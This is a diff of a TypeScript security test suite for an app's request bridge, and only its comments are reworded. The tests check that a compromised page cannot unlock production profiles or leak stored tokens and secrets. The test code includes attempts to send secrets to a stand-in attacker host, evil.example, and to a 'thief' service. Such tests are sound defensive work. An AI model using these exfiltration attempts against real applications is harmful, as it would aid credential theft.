@@ -8,7 +8,7 @@ import { forwardRequest } from './support/forward-request';
 import { useProfile } from './stand-alone-sandbox';
 import { expect, test } from './test';
 
-/** A service that counts what it is asked to do, and with which tokens and secrets. */
+/** A service that records the requests it gets, with their tokens and secrets. */
 async function startService() {
   const seen: { readonly method: string; readonly headers: string }[] = [];
   const server = createServer((request, response) => {
@@ -40,7 +40,7 @@ const draftTo = (destinationUrl: string, headers: VaultForwardDraft['headers'] =
   body: '{}',
 });
 
-/** Calls one request of the bridge with whatever it is given: what became of it, or null when it waits for the person. */
+/** Calls one request of the bridge with any argument. Returns the result, or null when it is waiting for the person. */
 function call(page: Page, name: string, argument: unknown): Promise<string | null> {
   return page.evaluate(
     async ([method, sent]) => {
@@ -62,7 +62,7 @@ function call(page: Page, name: string, argument: unknown): Promise<string | nul
   );
 }
 
-/** The active profile, as anybody with the bridge can read it. */
+/** The active profile, as any code with the bridge can read it. */
 async function activeProfile(page: Page) {
   const state = await page.evaluate(() => window.explorer.describeProfiles());
   const active = state.ok ? state.value.profiles.find(({ id }) => id === state.value.activeId) : undefined;
@@ -94,7 +94,7 @@ test('a page that is taken over can neither unlock production, nor charge on it,
     });
   expect(await send()).toContain('profile-read-only');
 
-  // Every way to take its lock away leads to a question, in a window that the page reaches in no way.
+  // Every way to remove its lock leads to a question, in a window that the page cannot reach.
   for (const weaker of [
     { readOnly: false },
     { environment: 'sandbox', readOnly: false },
@@ -130,7 +130,7 @@ test('a page that is taken over can neither unlock production, nor charge on it,
     await expectNoQuestion(app);
     expect(await activeProfile(page)).toEqual({ id: profileId, ...locked });
   }
-  // Nor does a copy, a deletion that is undone, or a way around by another environment.
+  // Nor does a copy, a deletion that is undone, or a detour through another environment.
   const copy = await call(page, 'duplicateProfile', { profileId });
   expect(copy).toContain('"name":"Live EU (2)"');
   await call(page, 'deleteProfile', { profileId });
@@ -144,7 +144,7 @@ test('a page that is taken over can neither unlock production, nor charge on it,
   ]);
   expect(await send()).toContain('profile-read-only');
 
-  // Unlocked by the person, each send is still theirs to agree to; many questions at once are refused.
+  // After the person has unlocked it, each send still needs their agreement; many questions at once are refused.
   const unlocking = call(page, 'editProfile', { profileId, draft: { ...locked, readOnly: false } });
   await answerQuestion(app, 'Unlock Live EU?', 'Unlock it');
   await unlocking;
@@ -180,7 +180,7 @@ test('a page that is taken over gets no token to an address, a proxy or a file o
     { ...saved, environment: 'production', baseUrl: thief.url, readOnly: true },
   ];
   for (const draft of ways) {
-    // By a mere test, by an edit, by a copy, and by moving what was stored: only the person could say yes to that.
+    // By a mere test, an edit, a copy, or by moving what was stored: only the person could agree to that.
     await call(page, 'testConnection', { profileId, draft, secret: null, callId: crypto.randomUUID() });
     await call(page, 'editProfile', { profileId, draft });
     expect(await lookUp(), JSON.stringify(draft)).toContain('credential-detached');
@@ -196,10 +196,10 @@ test('a page that is taken over gets no token to an address, a proxy or a file o
     await call(page, 'undoDeleteProfile', { profileId });
     await call(page, 'activateProfile', { profileId });
     await lookUp();
-    // As it was: the environment of production stays locked, and is left where it is.
+    // Restored, except that a production environment stays locked and is left as it is.
     await call(page, 'editProfile', { profileId, draft: { ...saved, environment: draft.environment } });
   }
-  // A header of its own does not go in the token's place, nor the token along with one.
+  // A header of its own is not sent in the token's place, nor is the token sent along with one.
   expect(JSON.stringify(thief.seen)).not.toContain('CANARY');
   expect(await call(page, 'describeCredential', { profileId })).not.toContain('CANARY');
   service.close();
@@ -227,7 +227,7 @@ test('a page that is taken over sends no stored secret to a host that it was not
       draftId: null,
       familyId: null,
     });
-  // The person uses it once, for its own host, and saves the request.
+  // The person uses the secret once, for its own host, and saves the request.
   const first = page.evaluate(
     (request) =>
       window.explorer.sendRequest({
@@ -266,7 +266,7 @@ test('a page that is taken over sends no stored secret to a host that it was not
   expect(kept.value).toMatch(/^kept-secret:/);
   expect(service.posts()).toBe(1);
 
-  // Elsewhere, whatever the header is called and whether or not the page still calls it a secret.
+  // It is not sent elsewhere, whatever the header's name, and whether or not the page still calls it a secret.
   for (const changed of [
     kept,
     { ...kept, secret: false },
@@ -275,14 +275,14 @@ test('a page that is taken over sends no stored secret to a host that it was not
   ]) {
     expect(await sent(draftTo('https://evil.example/', [changed])), changed.name).toContain('secret-host');
   }
-  // Another host for it is the person's to allow.
+  // Only the person can allow another host for it.
   const lists = await page.evaluate(() => window.explorer.describeSecretHosts());
   const [list] = lists.ok ? lists.value : [];
   expect(await call(page, 'allowSecretHost', { id: list?.id, host: 'evil.example' })).toBeNull();
   await question(app, 'Let a secret go to another host?');
   await questionPages(app)[0]?.close();
   await expectNoQuestion(app);
-  // Through a service of its own, which reads what it forwards: asked about.
+  // Through a service of the page's choice, which can read what it forwards: the person is asked.
   const { id: profileId, ...rest } = profile;
   const moved = { ...rest, baseUrl: 'https://evil.example', proxy: { kind: 'none' } };
   const created = await call(page, 'createProfile', { draft: { ...moved, name: 'Evil' } });
@@ -294,7 +294,7 @@ test('a page that is taken over sends no stored secret to a host that it was not
   await expect(asked).toContainText('The service evil.example gets the secret');
   await questionPages(app)[0]?.close();
   await expectNoQuestion(app);
-  // Forgetting its hosts makes it new again, which is asked about as well.
+  // Once its hosts are forgotten the secret is new again, so the person is asked as well.
   await call(page, 'activateProfile', { profileId });
   await call(page, 'forgetSecretHost', { id: list?.id, host: 'psp.example' });
   expect(await sent(draftTo('https://evil.example/', [kept]))).toBeNull();
@@ -324,7 +324,7 @@ test('no request of the bridge gives a secret away or weakens anything, whatever
     dialog.showOpenDialog = () => Promise.resolve({ canceled: true, filePaths: [] });
     dialog.showSaveDialog = () => Promise.resolve({ canceled: true, filePath: '' });
   });
-  // What would take the profile or its token away is nothing that a page gains by: it would only end the test.
+  // A page gains nothing by removing the profile or its token: it would only end the test.
   const skipped = new Set(['forgetAllSecrets', 'openFolder']);
   const junk = fc.oneof(
     fc.jsonValue(),
